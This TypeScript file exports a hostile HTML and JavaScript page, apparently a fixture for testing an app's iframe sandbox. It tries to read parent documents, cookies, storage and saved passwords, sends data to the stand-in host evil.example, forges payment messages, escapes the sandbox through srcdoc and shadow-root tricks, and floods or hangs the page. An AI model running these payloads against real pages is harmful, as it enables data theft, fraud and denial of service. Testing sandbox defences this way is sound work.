import { attackTools, fakeLogin, quietAttacks } from './quiet-attacks.ts';

/**
 * Tries to do harm in every way that a page can: at once what leaves it standing, with an account of what
 * came of it; at the press of a button what ends the page. Names begin with the number of the attack.
 */
export const hostileTemplate = `<p>\${text}</p><pre id=report></pre>
<form id=mine><input name="answer" value="mine"><input type=password name=password autocomplete="current-password">
<button name="way" value="plain">Send</button></form>
<form id=outside action="https://evil.example/take" method=post><input name=secret value=1>
<button id=elsewhere formaction="https://evil.example/formaction">x</button></form>
<a id=top target=_top href="https://evil.example/">top</a>
<a id=blank target=_blank href="https://evil.example/blank">blank</a>
<a id=script href="javascript:parent.postMessage('x','*')">script</a>
<a id=file download="evil.exe" href="data:application/octet-stream,evil">file</a>
${fakeLogin}
<div id=buttons></div>
<base href="https://evil.example/">
<link rel=prefetch href="https://evil.example/prefetch"><link rel=preconnect href="https://evil.example/">
<link rel=dns-prefetch href="//dns.evil.example/"><link rel=stylesheet href="https://evil.example/style.css">
<style>@import url("https://evil.example/import.css"); #report { background: url("https://evil.example/css.png") }</style>
<img src="https://evil.example/pixel.png?SELF"><object data="https://evil.example/object"></object>
<iframe src="https://evil.example/frame"></iframe>
<div><template shadowrootmode=closed><iframe srcdoc="<script>parent.postMessage('inside declared', '*')</script>"></iframe></template></div>
<iframe src="javascript:'<script>parent.postMessage(\`inside of a declared address\`, \`*\`)</script>'"></iframe>
<script>document.write('<div><template shadow')</script>rootmode=closed><iframe srcdoc="<script>parent.postMessage('inside put together', '*')</script>"></iframe></template></div>
<script>
${attackTools}
/** A document whose scripts have everything that was taken away out here. */
function writeInside(name) {
  return '<script>parent.postMessage("inside ' + name + '", "*");' +
    'var peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:STUN_ADDRESS" }] }); peer.createDataChannel("x");' +
    'peer.createOffer().then(function (offer) { peer.setLocalDescription(offer); })<\\/script>';
}
function startAnew() {
  return '<p id=anew></p><iframe srcdoc="' + writeInside('anew').replace(/"/g, '&quot;') + '"></iframe><script>' +
    'function say(text) { document.getElementById("anew").textContent += text; }' +
    'onmessage = function (event) { if (/^inside/.test(event.data)) say(event.data + " ran "); };' +
    'try { say(top.document.title + " read ") } catch (error) { } alert("evil"); open("https://evil.example/anew");' +
    'var peer = window.RTCPeerConnection && new RTCPeerConnection({ iceServers: [{ urls: "stun:STUN_ADDRESS" }] });' +
    'if (peer) { peer.createDataChannel("x"); peer.createOffer().then(function (offer) { peer.setLocalDescription(offer); }); }' +
    'setTimeout(say, 1500, "done")<\\/script>';
}
function makeInside(name) {
  var frame = document.createElement('iframe');
  frame.srcdoc = writeInside(name);
  return frame;
}
var other = child.contentWindow;
${quietAttacks}

attempt('01 parent document', function () { return parent.document.title; });
attempt('01 top address', function () { return top.location.href; });
attempt('01 frame element', function () { return frameElement.tagName; });
attempt('02 cookie', function () { return cookie.get.call(document); });
attempt('02 cookie of the app', function () { cookie.set.call(document, 'session=evil; Domain=localhost'); return 'set'; });
later('02 cookie store', function () { return cookieStore.set('session', 'evil'); });
attempt('03 left by another page', function () { var was = localStorage.getItem('left'); localStorage.setItem('left', 'yes'); return was; });
attempt('03 left in the session', function () { var was = sessionStorage.getItem('left'); sessionStorage.setItem('left', 'yes'); return was; });
attempt('03 databases', function () { return indexedDB.open('x') && 'opened'; });
later('03 caches', function () { return caches.open('x'); });
later('04 service worker', function () { return navigator.serviceWorker.register('/host.js'); });
attempt('04 worker', function () { new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = function () { report['04 worker ran'] = 'yes'; }; });
attempt('05 top', function () { top.location = evil; });
attempt('05 top replaced', function () { top.location.replace(evil); });
attempt('06 window', function () { return window.open(evil); });
attempt('06 opener', function () { return opener; });
attempt('07 own sandbox', function () { frameElement.removeAttribute('sandbox'); });
['put in', 'in a shadow', 'changed later', 'freed later', 'not counted', 'copied', 'of an address',
  'of an address later', 'of a link', 'of a declared address', 'declared', 'written', 'written in parts', 'put together', 'not replaced'].forEach(function (name) {
  later('12 script inside, ' + name, function () {
    return new Promise(function (done) {
      addEventListener('message', function (event) { if (event.data === 'inside ' + name) done('ran'); });
    });
  });
});
document.body.append(makeInside('put in'));
var host = document.body.appendChild(document.createElement('div'));
host.attachShadow({ mode: 'closed' }).append(makeInside('in a shadow'));
var changed = document.body.appendChild(document.createElement('iframe'));
setTimeout(function () { changed.getAttribute = function () { return ''; }; changed.srcdoc = writeInside('changed later'); }, 100);
var freed = document.createElement('iframe');
freed.setAttribute('sandbox', '');
document.body.append(freed);
setTimeout(function () { freed.removeAttribute('sandbox'); freed.srcdoc = writeInside('freed later'); }, 100);
var lengths = Object.getOwnPropertyDescriptor(NodeList.prototype, 'length');
Object.defineProperty(NodeList.prototype, 'length', { get: function () { return 0; }, configurable: true });
document.body.append(makeInside('not counted'));
Promise.resolve().then(function () { Object.defineProperty(NodeList.prototype, 'length', lengths); });
var original = document.createElement('div');
original.attachShadow({ mode: 'closed', clonable: true }).append(makeInside('copied'));
document.body.append(original.cloneNode(true));
var addressed = document.createElement('iframe');
addressed.src = 'javascript:' + JSON.stringify(writeInside('of an address'));
document.body.append(addressed);
['of an address later', 'of a link'].forEach(function (name) {
  var frame = document.createElement('iframe'), script = 'javascript:' + JSON.stringify(writeInside(name));
  frame.name = name;
  document.body.append(frame);
  attempt('08 ' + name, function () { frame.contentWindow.location = name === 'of a link' ? 'about:blank' : script; });
  if (name !== 'of a link') return;
  var link = document.createElement('a');
  link.href = script;
  link.target = name;
  document.body.append(link);
  link.click();
});
// The word in one piece would not come as far as here.
var mode = 'shadowroot' + 'mode=closed>';
function declare(name) {
  return mode + '<iframe srcdoc="' + writeInside(name).replace(/"/g, '&quot;') + '"></iframe></template></div>';
}
document.write('<div><template ' + declare('written'));
document.write('<div><template shadow');
document.write(declare('written in parts').slice(6));
var replace = String.prototype.replace, text = '<div><template ' + declare('not replaced');
String.prototype.replace = function () { return String(this); };
document.write(text);
String.prototype.replace = replace;
attempt('07 constructor of a child', function () { return other.Function('return document.cookie')(); });
attempt('08 data frame', function () {
  var frame = document.createElement('iframe');
  frame.src = 'data:text/html,<script>parent.postMessage("data ran", "*")<\\/script>';
  document.body.append(frame);
});
later('10 fetch', function () { return fetch(evil); });
later('10 api', function () { return fetch(app + '/graphql', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{"query":"{ viewer { id } }"}' }); });
later('10 xhr', function () { return new Promise(function (yes, no) { var r = new XMLHttpRequest(); r.onload = yes; r.onerror = no; r.open('GET', evil); r.send(); }); });
later('10 socket', function () { return new Promise(function (yes, no) { var s = new WebSocket('wss://evil.example/'); s.onopen = yes; s.onerror = no; }); });
later('10 events', function () { return new Promise(function (yes, no) { var s = new EventSource(evil); s.onopen = yes; s.onerror = no; }); });
later('10 transport', function () { return new WebTransport(evil).ready; });
attempt('10 beacon', function () { return navigator.sendBeacon(evil, 'x'); });
attempt('11 import', function () { import(evil + 'module.js').catch(function () {}); });
attempt('12 webrtc', function () { return new RTCPeerConnection() && 'made'; });
attempt('14 forged', function () {
  parent.postMessage({ exchange: 1, nonce: 'forged', type: 'submit', answer: { answer: 'forged' } }, '*');
});
attempt('16 privileges', function () {
  var nonce = new URL(document.querySelector('script[src*="host.js"]').src).searchParams.get('frame').split('.')[0];
  window.nonce = nonce;
  ['pay', 'approve', 'return', 'write', 'restore', 'navigate'].forEach(function (type) {
    parent.postMessage({ exchange: 1, nonce: nonce, type: type, amount: 1000000, id: 'asg_another', url: evil, html: '<h1>x</h1>' }, '*');
  });
  parent.postMessage({ exchange: 1, nonce: nonce, type: 'height', height: 100000 }, '*');
});
attempt('17 dialogs', function () { alert('evil'); confirm('evil'); prompt('evil'); print(); });
later('17 full screen', function () { return document.documentElement.requestFullscreen(); });
later('17 pointer', function () { return document.documentElement.requestPointerLock(); });
later('18 camera', function () { return navigator.mediaDevices.getUserMedia({ video: true, audio: true }); });
later('18 screen', function () { return navigator.mediaDevices.getDisplayMedia(); });
later('18 place', function () { return new Promise(function (yes, no) { navigator.geolocation.getCurrentPosition(yes, no); }); });
later('18 clipboard', function () { return navigator.clipboard.readText(); });
later('18 clipboard written', function () { return navigator.clipboard.writeText('evil'); });
attempt('18 payment', function () { return new PaymentRequest([{ supportedMethods: 'https://pay.example' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }) && 'made'; });
attempt('18 notifications', function () { return Notification.permission; });
later('18 notifications asked for', function () {
  return Notification.requestPermission().then(function (got) { if (got !== 'granted') throw got; return got; });
});
later('20 saved passwords', function () { return navigator.credentials.get({ password: true }); });
attempt('26 origin', function () { return origin; });
window.onbeforeunload = function () { return 'Stay!'; };
['top', 'blank', 'script', 'file'].forEach(function (id) { document.getElementById(id).click(); });

var endings = {
  'leave with data': function () { location.href = evil + '?d=' + document.title; },
  'leave by refresh': function () { document.head.innerHTML += '<meta http-equiv=refresh content="0;url=https://evil.example/refresh">'; },
  'become data': function () { location.href = 'data:text/html,<h1>evil</h1>'; },
  'become a blob': function () { location.href = URL.createObjectURL(new Blob(['<h1>evil</h1>'], { type: 'text/html' })); },
  // Another document in place of this one, without what was taken away out here.
  'become a script': function () { location.href = 'javascript:' + encodeURIComponent(JSON.stringify(startAnew())); },
  'write itself anew': function () { document.open(); document.write(startAnew()); document.close(); },
  'post outside': function () { document.getElementById('outside').submit(); },
  'post to the app': function () { var form = document.getElementById('outside'); form.action = app + '/api/auth/sign-out'; form.submit(); },
  'press the other address': function () { document.getElementById('elsewhere').click(); },
  'take the top': function () { try { top.location = evil; } catch (error) { document.title = error.name; } document.getElementById('top').click(); window.open(evil + 'clicked', '_top'); },
  'take a window': function () {
    ['top', 'blank', 'file'].forEach(function (id) {
      var link = document.getElementById(id);
      link.onclick = function (event) { event.stopPropagation(); };
      link.click();
    });
  },
  'go back': function () { history.back(); history.go(-2); },
  'cover everything': function () {
    document.body.innerHTML += '<div style="position:fixed;inset:-1000px;z-index:2147483647;background:red;height:900000px">covered</div>' + '<i></i>'.repeat(150000);
  },
  'flood': function () {
    var cyclic = { exchange: 1, nonce: nonce, type: 'draft' }; cyclic.fields = cyclic;
    parent.postMessage(cyclic, '*');
    parent.postMessage({ exchange: 1, nonce: nonce, type: 'draft', fields: JSON.parse('{"__proto__":["polluted"],"constructor":["x"]}') }, '*');
    parent.postMessage({ exchange: 1, nonce: nonce, type: 'draft', fields: { a: ['x'.repeat(10000000)] } }, '*');
    for (var i = 0; i < 10000; i += 1) parent.postMessage({ exchange: 1, nonce: nonce, type: 'height', height: i }, '*');
  },
  'run for ever': function () { setTimeout(function () { var all = []; for (;;) all[all.length % 1000] = all.length; }, 100); },
};
Object.keys(endings).forEach(function (name) {
  var button = document.createElement('button');
  button.type = 'button'; button.textContent = name; button.onclick = endings[name];
  document.getElementById('buttons').append(button);
});
addEventListener('message', function (event) { if (/^data/.test(event.data)) report['07 ' + event.data] = 'said'; });
Promise.all(tries).then(function () { document.getElementById('report').textContent = JSON.stringify(report); });
</script>`;
